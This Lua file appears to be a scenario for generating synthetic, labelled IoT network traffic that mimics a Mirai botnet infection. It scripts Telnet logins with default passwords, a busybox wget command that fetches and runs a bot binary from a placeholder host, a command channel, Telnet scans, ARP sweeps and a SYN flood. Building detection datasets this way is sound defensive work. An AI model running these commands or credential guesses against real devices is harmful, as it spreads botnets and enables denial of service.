-- SPDX-License-Identifier: GPL-3.0-or-later
-- Public set: 84.08 % attack packets, onset at 121,621 of 764,137 (15.9 %), and everything after it labelled
-- 1; command channel at 121,662, scan at 122,662, the bot's own denial of service at 370,000. Here the labels
-- are those of the packets: benign devices go on talking and stay 0, which leaves 81 to 82 %. A device is
-- infected over Telnet, loads the bot, reports to its master, scans the Internet for Telnet and the local
-- network by ARP, tries passwords, a second device follows, then both flood a victim.
local network = require "datasets.scenarios.base.iot_network"
local laws = require "datasets.scenarios.base.laws"
local dialogues = require "datasets.scenarios.base.dialogues"
local onset = 0.1592

-- One login over Telnet; the last line is the shell's, or another prompt.
local function login(passwords, outcome, shell)
  local lines = {
    {sender = "server", text = "\xff\xfd\x01\xff\xfb\x01\xff\xfb\x03", think = 0.02},
    {sender = "client", text = "\xff\xfc\x01\xff\xfd\x01\xff\xfd\x03", think = 0.002},
    {sender = "server", text = "\r\nlogin: ", think = 0.05},
    {sender = "client", text = {"root\r\n", "admin\r\n", "support\r\n"}, think = 0.01},
    {sender = "server", text = "\r\nPassword: ", think = 0.05},
    {sender = "client", text = passwords, think = 0.01},
    {sender = "server", text = outcome, think = 0.3},
  }
  for _, line in ipairs(shell or {}) do
    lines[#lines + 1] = {sender = "client", text = line[1], think = 0.02}
    lines[#lines + 1] = {sender = "server", text = line[2], think = 0.05}
  end
  return lines
end

local infection = login("xc3511\r\n", "\r\nBusyBox v1.16.1 built-in shell (ash)\r\n# ", {
  {"enable\r\n", "enable\r\nash: enable: not found\r\n# "},
  {"/bin/busybox ECCHI\r\n", "ECCHI: applet not found\r\n# "},
  {"cd /tmp; /bin/busybox wget http://192.0.2.66/bins/mirai.arm -O dvrHelper; chmod 777 dvrHelper\r\n",
   "Connecting to 192.0.2.66 (192.0.2.66:80)\r\n# "},
  {"./dvrHelper telnet.arm; /bin/busybox IHCCE\r\n", "listening tun0\r\nIHCCE: applet not found\r\n# "},
})
local guesses = login({"xc3511\r\n", "vizxv\r\n", "admin\r\n", "888888\r\n", "default\r\n", "123456\r\n"},
                      "\r\nLogin incorrect\r\n")
local download = {
  {sender = "client", text = dialogues.crlf{"GET /bins/mirai.arm HTTP/1.1", "User-Agent: Wget",
                                            "Host: %{server}", "Connection: close", ""}},
  {sender = "server", body = 58408, think = 0.02,
   text = dialogues.crlf{"HTTP/1.1 200 OK", "Content-Type: application/octet-stream", "Content-Length: %{body}",
                         "Connection: close", ""}},
}
-- Registration (four bytes, then the length of an empty identifier), then two zero bytes a minute in both directions.
local command_channel = {
  {sender = "client", text = "\0\0\0\1", think = 0.01}, {sender = "client", text = "\0", think = 0.02},
  {repeat_times = 1e6, lines = {
    {sender = "client", text = "\0\0", think = laws.uniform(59, 61, "Mirai's source: a ping every 60 s")},
    {sender = "server", text = "\0\0", think = 0.001}}},
}

local attacks = {}
local function bot(device, begin, shares)
  local function add(activity)
    activity.attack = true
    activity.begin = activity.begin or begin
    attacks[#attacks + 1] = activity
  end
  local once = 1e6
  add{behaviour = "dialogue", name = "mirai_infection", from = "bot_master", to = device, port = 23, gap = once,
      lines = infection}
  add{behaviour = "dialogue", name = "mirai_download", from = device, to = "bot_master", port = 80, gap = once,
      start = 0.7, closes = "server", lines = download}
  add{behaviour = "dialogue", name = "mirai_command", from = device, to = "bot_master", port = 23, start = 0.9,
      gap = 10, lines = command_channel}
  -- Nine SYNs in ten to port 23, one to 2323; the target's address is the sequence number (Mirai's scanner.c).
  add{behaviour = "scan", name = "mirai_scan", from = device, router = "router",
      ports = {23, 23, 23, 23, 23, 23, 23, 23, 23, 2323},
      address_as_sequence = true, fresh_port = true, mss = 0, window = 14600, copies = 8,
      start = laws.uniform(1, 1.2, "chosen"), share = shares.scan,
      gap = laws.exponential(0.05, "chosen: 8 copies make 160 a second, as Mirai's source has")}
  add{behaviour = "arp_sweep", name = "mirai_arp_sweep", from = device, sweeps = 0, start = 1, share = shares.arp,
      gap = laws.exponential(0.03, "chosen; replaced by its share")}
  add{behaviour = "dialogue", name = "mirai_passwords", from = device, port = 23, copies = 4,
      start = laws.uniform(1.2, 2, "chosen"), share = shares.guess,
      targets = {"open_telnet1", "open_telnet2", "open_telnet3"}, closes = "server", lines = guesses,
      gap = laws.exponential(0.5, "chosen: 4 copies make about the share")}
  add{behaviour = "syn_flood", name = "mirai_flood", from = device, to = "victim_site", port = 80, begin = 0.484,
      finish = 0.62, answered = 0.02, reset = 1, share = shares.flood,
      gap = laws.exponential(0.01, "chosen; replaced by its share")}
end
bot("webcam1", onset, {scan = 0.62, arp = 0.1, guess = 0.025, flood = 0.01})
bot("webcam2", onset + 0.012, {scan = 0.15, arp = 0.05, guess = 0.01, flood = 0.005})

local scenario = {name = "mirai", description = "An IoT network in which two devices become Mirai bots.",
                  epoch = 1540425600, start_hour = 10, diurnal = laws.office_day, hosts = network.hosts(),
                  activities = network.activities()}
table.move(attacks, 1, #attacks, #scenario.activities + 1, scenario.activities)
return scenario
